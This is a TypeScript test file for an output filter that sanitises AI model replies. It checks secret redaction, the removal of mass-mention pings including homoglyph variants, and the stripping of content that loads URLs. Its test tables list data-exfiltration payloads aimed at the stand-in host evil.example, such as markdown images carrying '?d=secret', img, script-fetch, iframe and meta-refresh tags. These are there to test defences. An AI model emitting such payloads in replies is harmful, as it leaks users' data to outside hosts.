import { describe, expect, it } from 'vitest';
import { filterReply, HTML_REMOVED, IMAGE_REMOVED, MENTION_REMOVED } from './output';
import { wrapUntrusted } from './wrap';

const VAULT_SECRET = 'hunter2-vault-value';
// A stand-in for the workspace redactor: removes one stored secret (the real one removes every form).
const redact = async (text: string) => text.split(VAULT_SECRET).join('[REDACTED]');
const filter = (text: string, mode?: 'off' | 'warn' | 'block') =>
  filterReply(text, { redact, knownHosts: ['images.example.com'], ...(mode ? { mode } : {}) });

describe('filterReply', () => {
  it('removes a vault secret the model repeats, in every mode', async () => {
    for (const mode of ['off', 'warn', 'block'] as const) {
      const { text, verdict } = await filter(`The password is ${VAULT_SECRET}.`, mode);
      expect(text).toBe('The password is [REDACTED].');
      expect(verdict).toMatchObject({ guard: 'output', mode, outcome: 'blocked' });
      expect(verdict.reasons).toContain('vault-secret');
      expect(JSON.stringify(verdict)).not.toContain(VAULT_SECRET);
    }
  });

  it('strips internal markers the model echoes, tag and all', async () => {
    const { text, verdict } = await filter(`Here: ${wrapUntrusted('page text', 'web')} done`);
    expect(text).toBe('Here: \npage text\n done');
    expect(verdict.reasons).toContain('internal-marker');
  });

  const massMentions: [string, string][] = [
    ['@everyone', 'hey @everyone look'],
    ['@here', 'ping @here now'],
    ['Slack <!channel>', 'hi <!channel> news'],
    ['Slack <!here>', 'hi <!here> news'],
    ['Slack <!everyone>', 'hi <!everyone> news'],
    ['Slack <!here|here> with label', 'hi <!here|here> news'],
    ['Slack user group', 'hi <!subteam^S0123ABC> news'],
    ['Discord role mention', 'hi <@&123456789012345678> news'],
    ['upper case', 'hey @EVERYONE look'],
    ['zero-width space inside', 'hey @every\u200bone look'],
    ['zero-width after the @', 'hey @\u200dhere look'],
    ['full-width letters', 'hey @ｅｖｅｒｙｏｎｅ look'],
    ['full-width at sign', 'hey ＠everyone look'],
    ['Cyrillic homoglyphs', 'hey @еvеrуоnе look'],
    ['entity for the at sign', 'hey &#64;everyone look'],
    ['at the very start', '@here first'],
  ];

  it.each(massMentions)('neutralises a mass mention: %s', async (_name, reply) => {
    const { text, verdict } = await filter(reply);
    expect(text).toContain(MENTION_REMOVED);
    expect(text).not.toMatch(/@everyone|@here|<!channel>|<!here|<!everyone>|<!subteam|<@&/i);
    expect(verdict).toMatchObject({ outcome: 'blocked', reasons: ['mass-mention'] });
  });

  const exfiltration: [string, string, string][] = [
    ['markdown image to an unknown host', '![chart](https://evil.example/c.png?d=secret)', IMAGE_REMOVED],
    ['markdown image with a title', '![x](https://evil.example/a.png "title")', IMAGE_REMOVED],
    ['markdown image in angle brackets', '![x](<https://evil.example/a b.png>)', IMAGE_REMOVED],
    ['reference-style image', '![logo][l]\n\n[l]: https://evil.example/l.png', IMAGE_REMOVED],
    ['collapsed reference image', '![Logo][]\n\n[logo]: https://evil.example/l.png', IMAGE_REMOVED],
    ['known host as userinfo', '![x](https://images.example.com@evil.example/a.png)', IMAGE_REMOVED],
    ['known host behind a backslash', '![x](https://evil.example\\images.example.com/a.png)', IMAGE_REMOVED],
    ['known host as a subdomain of an unknown one', '![x](https://images.example.com.evil.example/a.png)', IMAGE_REMOVED],
    ['data URL', '![x](data:image/png;base64,iVBORw0KGgo=)', IMAGE_REMOVED],
    ['relative URL', '![x](/a.png)', IMAGE_REMOVED],
    ['alt text with balanced brackets', '![a [b] c](https://evil.example/a.png)', IMAGE_REMOVED],
    ['image inside a link', '[![x](https://evil.example/a.png)](https://example.com)', IMAGE_REMOVED],
    ['raw img tag', '<img src="https://evil.example/p.png?d=1">', HTML_REMOVED],
    ['upper-case IMG tag', '<IMG SRC=https://evil.example/p.png>', HTML_REMOVED],
    ['img with srcset', '<img srcset="https://evil.example/p.png 2x">', HTML_REMOVED],
    ['lazy data-src', '<img data-src="https://evil.example/p.png">', HTML_REMOVED],
    ['script tag', '<script>fetch("https://evil.example")</script>', HTML_REMOVED],
    ['iframe', '<iframe src="https://evil.example"></iframe>', HTML_REMOVED],
    ['style with a url()', '<style>body{background:url(https://evil.example/x)}</style>', HTML_REMOVED],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', HTML_REMOVED],
    ['link with href', '<a href="https://evil.example/?d=secret">click</a>', HTML_REMOVED],
    ['svg', '<svg onload="x"></svg>', HTML_REMOVED],
  ];

  it.each(exfiltration)('removes content that loads a URL: %s', async (_name, reply, notice) => {
    const { text, verdict } = await filter(reply);
    expect(text).toContain(notice);
    expect(text).not.toMatch(/evil\.example\/(?:c|a|p|l)\.png|<img|<script|<iframe|<style|<meta|<svg|data:image|href=/i);
    expect(verdict.outcome).toBe('blocked');
  });

  const benign: [string, string][] = [
    ['plain answer', 'The deploy finished in 42 s. Next step: run the migrations.'],
    ['an e-mail address', 'Write to ops@here.example or admin@everyone.example.'],
    ['a user mention', 'Thanks <@123456789012345678> and <@U024BE7LH>!'],
    ['a channel link', 'See <#C024BE7LH|general>.'],
    ['image from a known host', '![diagram](https://images.example.com/d.png)'],
    ['an ordinary link', 'Docs: [guide](https://evil.example/guide) and https://example.com/x'],
    ['code with generics and comparisons', 'Use Map<string, number> and check a < b && c > d.'],
    ['bold and italics HTML', '<b>bold</b> and <i>italic</i>'],
    ['HTML inside a code block', '```html\n<img src="https://evil.example/p.png">\n<script>x()</script>\n```'],
    ['image markdown inside inline code', 'Write `![alt](https://evil.example/a.png)` to embed.'],
    ['brackets that are not images', 'Array access like a![0] or ![not an image] stays.'],
    ['non-Latin text', 'Готово! 完成しました。'],
  ];

  it.each(benign)('passes a benign reply unchanged: %s', async (_name, reply) => {
    const { text, verdict } = await filter(reply);
    expect(text).toBe(reply);
    expect(verdict).toEqual({ guard: 'output', mode: 'block', outcome: 'pass', reasons: [] });
  });

  it('warn records mentions, HTML and images but leaves them; off skips them', async () => {
    const reply = '@everyone ![x](https://evil.example/a.png) <img src=x>';
    const warned = await filter(reply, 'warn');
    expect(warned.text).toBe(reply);
    expect(warned.verdict).toEqual({
      guard: 'output',
      mode: 'warn',
      outcome: 'warned',
      reasons: ['mass-mention', 'raw-html', 'image-unknown-host'],
    });
    const off = await filter(reply, 'off');
    expect(off).toEqual({ text: reply, verdict: { guard: 'output', mode: 'off', outcome: 'pass', reasons: [] } });
  });

  it('fails closed when redaction fails: the error propagates, no text comes back', async () => {
    const failing = async () => {
      throw new Error('vault unavailable');
    };
    await expect(filterReply('hello', { redact: failing })).rejects.toThrow('vault unavailable');
  });
});
